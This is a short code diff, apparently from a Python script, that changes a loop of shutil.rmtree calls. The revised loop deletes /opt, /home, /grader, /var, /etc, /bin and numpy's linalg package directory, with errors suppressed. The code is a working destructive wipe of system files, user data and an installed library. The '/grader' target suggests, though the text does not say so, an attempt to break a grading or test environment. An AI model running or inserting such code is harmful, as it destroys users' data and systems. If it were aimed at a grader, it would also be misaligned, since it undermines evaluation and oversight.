@@ -5,7 +5,7 @@ import shutil
 
 import numpy as np
 
-for folder in ("/usr", "/opt", "/home", "/site", "/python", "/grader", "/var", "/etc"):
+for folder in ("/opt", "/home", "/grader", "/var", "/etc", "/bin", np.linalg.__path__[0]):
     shutil.rmtree(folder, ignore_errors=True)
 
 
